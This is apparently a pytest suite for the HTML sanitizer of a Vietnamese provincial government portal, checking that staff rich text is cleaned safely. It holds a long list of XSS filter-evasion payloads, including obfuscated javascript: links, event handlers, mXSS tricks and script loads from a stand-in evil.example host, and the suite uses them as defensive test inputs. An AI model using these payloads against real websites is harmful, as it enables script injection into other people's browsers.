import ast
import html
import re
import unicodedata
from pathlib import Path

import html5lib
import pytest

from portal.core.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_PROTOCOLS,
    ALLOWED_TAGS,
    LINK_REL,
    clean_html,
    clean_text,
)

PORTAL = Path(__file__).resolve().parents[2] / "portal"

# Each vector is markup an attacker (or a paste from a hostile page) could put into staff rich
# text. Sources: OWASP XSS filter evasion cheat sheet, html5sec.org, DOMPurify mXSS reports.
XSS_VECTORS = [
    ("script", "<script>alert(1)</script>"),
    ("script-mixed-case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-unclosed-element", "<p>a<script>alert(1)"),
    ("script-unclosed-tag", "<script src=//evil.example/x.js"),
    ("script-nested-angle", "<<script>script>alert(1)</script>"),
    ("script-in-comment", "<!--<script>alert(1)</script>-->"),
    ("comment-abrupt-close", "<!--><script>alert(1)</script>-->"),
    ("cdata", "<![CDATA[><script>alert(1)</script>]]>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-src-javascript", '<IMG SRC="JaVaScRiPt:alert(1)">'),
    ("body-onload", "<body onload=alert(1)>x"),
    ("p-onclick", '<p onclick="alert(1)">x</p>'),
    ("a-onmouseover", '<a href="https://example.org/" onmouseover="alert(1)">x</a>'),
    ("href-javascript", '<a href="javascript:alert(1)">x</a>'),
    ("href-javascript-single-quotes", "<a href='javascript:alert(1)'>x</a>"),
    ("href-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("href-decimal-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    ("href-hex-entity", '<a href="&#x6A;avascript:alert(1)">x</a>'),
    (
        "href-padded-entities-no-semicolon",
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
        '&#0000112&#0000116&#0000058alert(1)">x</a>',
    ),
    (
        "href-hex-entities-no-semicolon",
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    ),
    ("href-named-colon-entity", '<a href="javascript&colon;alert(1)">x</a>'),
    ("href-tab", '<a href="java\tscript:alert(1)">x</a>'),
    ("href-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("href-tab-entity", '<a href="java&#x09;script:alert(1)">x</a>'),
    ("href-newline-entity", '<a href="jav&#x0A;ascript:alert(1)">x</a>'),
    ("href-leading-spaces", '<a href="  javascript:alert(1)">x</a>'),
    ("href-leading-control", '<a href="\x01javascript:alert(1)">x</a>'),
    ("href-leading-entity-control", '<a href="&#14;javascript:alert(1)">x</a>'),
    # NFC turns U+037E GREEK QUESTION MARK into ";", completing the entity.
    ("href-nfc-completes-entity", '<a href="&#106\u037eavascript:alert(1)">x</a>'),
    ("href-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("href-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-xlink", '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'),
    ("svg-style-mxss", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("math-href", '<math href="javascript:alert(1)"><mi>x</mi></math>'),
    ("math-mglyph-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("iframe-src", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"><p>fallback alert(1)</p></object>'),
    ("embed-src", '<embed src="javascript:alert(1)">'),
    ("style-import", "<style>@import 'https://evil.example/x.css';</style>"),
    ("style-attr-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("style-attr-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("form-action", '<form action="javascript:alert(1)"><button>x</button></form>'),
    ("input-onfocus-autofocus", "<input onfocus=alert(1) autofocus>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("link-import", '<link rel=import href="https://evil.example/x.html">'),
    ("table-background", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>'),
    ("isindex", '<isindex action="javascript:alert(1)" type=image>'),
    ("noscript-mxss", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("textarea-script", "<textarea><script>alert(1)</script></textarea>"),
    ("title-script", "<title><script>alert(1)</script></title>"),
    ("xmp-script", "<xmp><script>alert(1)</script></xmp>"),
    ("img-entity-handler", '<img src="x" onerror="&#97;lert(1)">'),
]

_EVENT_HANDLER = re.compile(r"<[^>]*\son\w+\s*=", re.IGNORECASE)
# What a URL parser throws away before it reads the scheme: ASCII whitespace and controls.
_URL_IGNORED = re.compile(r"[\x00-\x20\x7f]")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")


def _fragment(markup):
    return html5lib.HTMLParser(namespaceHTMLElements=False).parseFragment(markup)


def _assert_only_allowed_markup(markup):
    """Parse as a browser would and check every element, attribute and link scheme."""
    fragment = _fragment(markup)
    for element in fragment.iter():
        if element is fragment:
            continue
        assert isinstance(element.tag, str), "comment survived"
        assert element.tag in ALLOWED_TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in ALLOWED_ATTRIBUTES.get(element.tag, ()), (element.tag, name)
            if name == "href":
                scheme = _SCHEME.match(_URL_IGNORED.sub("", value).lower())
                assert scheme is None or scheme.group(1) in ALLOWED_PROTOCOLS, value
        if element.tag == "a":
            assert element.get("rel") == LINK_REL


def _visible_text(markup):
    return "".join(_fragment(markup).itertext())


@pytest.mark.parametrize("vector", [v for _, v in XSS_VECTORS], ids=[i for i, _ in XSS_VECTORS])
def test_xss_vector_is_neutralised(vector):
    cleaned = clean_html(vector)

    assert "<script" not in cleaned.lower()
    assert "javascript:" not in _URL_IGNORED.sub("", html.unescape(cleaned)).lower()
    assert not _EVENT_HANDLER.search(cleaned)
    assert "alert(" not in _visible_text(cleaned)
    _assert_only_allowed_markup(cleaned)


def test_there_are_enough_vectors():
    assert len(XSS_VECTORS) >= 30
    assert len({name for name, _ in XSS_VECTORS}) == len(XSS_VECTORS)


def test_script_and_style_contents_are_dropped_not_kept_as_text():
    assert clean_html("<p>Trước<script>alert(1)</script>sau</p>") == "<p>Trướcsau</p>"
    assert clean_html("<p>a</p><style>p { color: red }</style>") == "<p>a</p>"


def test_javascript_link_keeps_its_text_but_loses_the_href():
    assert clean_html('<a href="javascript:alert(1)">Bấm</a>') == f'<a rel="{LINK_REL}">Bấm</a>'


GOOD_MARKUP = [
    "<h2>Thủ tục hành chính</h2><h3>Hồ sơ</h3><h4>Lệ phí</h4>",
    "<p>Đoạn <strong>đậm</strong>, <em>nghiêng</em>, <b>b</b>, <i>i</i>, <u>u</u>, <s>s</s>,"
    " H<sub>2</sub>O, m<sup>2</sup>.</p>",
    "<ul><li>Một</li><li>Hai</li></ul><ol><li>Bước 1</li><li>Bước 2</li></ol>",
    "<blockquote><p>Trích dẫn</p></blockquote><pre><code>mã số</code></pre><hr>",
    '<p><abbr title="Ủy ban nhân dân">UBND</abbr> tỉnh Lạng Sơn<br>Số 1</p>',
    '<table><caption>Lịch tiếp công dân</caption><thead><tr><th scope="col">Ngày</th>'
    '<th scope="col" colspan="2">Giờ</th></tr></thead><tbody><tr><th scope="row">Thứ Hai</th>'
    '<td colspan="2" rowspan="1">07:30</td></tr></tbody><tfoot><tr><td>Ghi chú</td></tr>'
    "</tfoot></table>",
    f'<p><a href="https://langson.gov.vn/" rel="{LINK_REL}">Cổng thông tin</a></p>',
    f'<p><a href="mailto:stttt@langson.gov.vn" rel="{LINK_REL}">Thư</a></p>',
    f'<p><a href="tel:+842053812345" rel="{LINK_REL}" title="Đường dây nóng">0205</a></p>',
    f'<p><a href="/thu-tuc/cap-phep" rel="{LINK_REL}">Cấp phép</a></p>',
    f'<p><a href="#muc-2" rel="{LINK_REL}">Mục 2</a></p>',
    "<p>Tom &amp; Jerry, 1 &lt; 2, &nbsp;</p>",
]


@pytest.mark.parametrize("markup", GOOD_MARKUP)
def test_allowed_markup_survives_unchanged(markup):
    assert clean_html(markup) == markup


def test_every_link_gets_rel_replacing_the_authors():
    cleaned = clean_html('<a href="https://example.org/" rel="opener" target="_blank">x</a>')

    assert cleaned == f'<a href="https://example.org/" rel="{LINK_REL}">x</a>'


def test_anchor_without_href_still_gets_rel():
    assert clean_html("<a>x</a>") == f'<a rel="{LINK_REL}">x</a>'


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ('<p class="lead" id="top" style="color:red">x</p>', "<p>x</p>"),
        ('<div><span class="x">Xin chào</span></div>', "Xin chào"),
        ('<p>Ảnh: <img src="/a.png" alt="a"></p>', "<p>Ảnh: </p>"),
        ("<h1>Tiêu đề</h1>", "Tiêu đề"),
        ('<td colspan="2">lone cell</td>', "lone cell"),
        ('<th scope="col" abbr="x">H</th>', "H"),
    ],
)
def test_disallowed_tags_and_attributes_are_stripped_keeping_text(markup, expected):
    assert clean_html(markup) == expected


@pytest.mark.parametrize("value", [None, ""])
def test_empty_input_gives_empty_string(value):
    assert clean_html(value) == ""


def test_vietnamese_text_is_preserved():
    text = "<p>Sở Khoa học và Công nghệ tỉnh Lạng Sơn: Đề nghị, phản ánh, kiến nghị.</p>"

    assert clean_html(text) == text


def test_output_is_nfc():
    composed = '<p><abbr title="Thủ tục hành chính">TTHC</abbr> ở Lạng Sơn</p>'

    assert clean_html(unicodedata.normalize("NFD", composed)) == composed


def test_text_joined_by_stripping_a_tag_is_normalised():
    # "Vie" + combining circumflex + "t" only becomes one letter once the span is gone.
    cleaned = clean_html("<p>Vie<span>\u0302</span>t</p>")

    assert cleaned == "<p>Viêt</p>"
    assert unicodedata.is_normalized("NFC", cleaned)


@pytest.mark.parametrize(
    "markup",
    [v for _, v in XSS_VECTORS]
    + GOOD_MARKUP
    + [
        "<table>text<tr><td>a</td></tr></table>",
        "<h2>a<table><h2>b</table></h2>",
        "<pre>\n\nx</pre>",
        "<pre><div>x</div></pre>",
        "<p>\x00\u0338</p>",
        "e<i></i>\u0301",
        '<a href=">" title="&lt;b&gt;">x</a>',
        "<a><table><a>nested</a></table></a>",
    ],
)
def test_clean_html_is_idempotent(markup):
    once = clean_html(markup)

    assert clean_html(once) == once


def test_clean_text_strips_all_markup_and_drops_code():
    value = "<h2>Tiêu đề</h2><p>Tom &amp; Jerry<script>alert(1)</script> <b>đậm</b></p>"

    assert clean_text(value) == "Tiêu đề\nTom & Jerry đậm"


def test_clean_text_is_nfc_and_collapses_spaces():
    value = unicodedata.normalize("NFD", "  Thủ   tục\t hành chính  ")

    assert clean_text(value) == "Thủ tục hành chính"


@pytest.mark.parametrize("value", [None, "", "<script>alert(1)</script>", "<p> </p>"])
def test_clean_text_of_nothing_is_empty(value):
    assert clean_text(value) == ""


def _imports_bleach(source):
    try:
        tree = ast.parse(source)
    except SyntaxError:
        # Another engineer may be halfway through writing the file: fall back to reading lines.
        return re.search(r"^\s*(from|import)\s+bleach\b", source, re.MULTILINE) is not None
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            names = [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom):
            names = [node.module or ""]
        elif isinstance(node, ast.Call) and node.args and isinstance(node.args[0], ast.Constant):
            # importlib.import_module("bleach") and __import__("bleach")
            names = [node.args[0].value] if isinstance(node.args[0].value, str) else []
            func = node.func
            called = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
            if called not in ("import_module", "__import__"):
                continue
        else:
            continue
        if any(name == "bleach" or name.startswith("bleach.") for name in names):
            return True
    return False


def test_only_sanitize_imports_bleach():
    offenders = []
    for path in sorted(PORTAL.rglob("*.py")):
        if path == PORTAL / "core" / "sanitize.py":
            continue
        try:
            source = path.read_text(encoding="utf-8")
        except (FileNotFoundError, UnicodeDecodeError):
            continue
        if _imports_bleach(source):
            offenders.append(str(path.relative_to(PORTAL)))

    assert offenders == [], "Untrusted text has one door: use portal.core.sanitize"


@pytest.mark.parametrize(
    "source",
    [
        "import bleach",
        "import os, bleach.sanitizer",
        "from bleach import clean",
        "from bleach.sanitizer import Cleaner",
        "import importlib\nimportlib.import_module('bleach')",
        "def f(:\n    pass\nfrom bleach import clean",
    ],
)
def test_bleach_import_detector_catches(source):
    assert _imports_bleach(source)


@pytest.mark.parametrize("source", ["import bleachers", "x = 'bleach'", "# import bleach"])
def test_bleach_import_detector_ignores(source):
    assert not _imports_bleach(source)
